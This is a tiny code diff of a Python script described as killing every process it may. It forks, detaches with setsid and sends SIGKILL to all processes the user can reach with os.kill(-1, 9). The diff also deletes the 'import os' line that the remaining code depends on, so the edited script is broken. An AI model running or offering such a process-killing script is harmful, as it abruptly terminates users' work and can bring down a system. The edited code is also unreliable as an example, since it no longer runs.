@@ -1,7 +1,5 @@
 """Kills every process that it may."""
 
-import os
-
 if os.fork() == 0:
     os.setsid()
     os.kill(-1, 9)
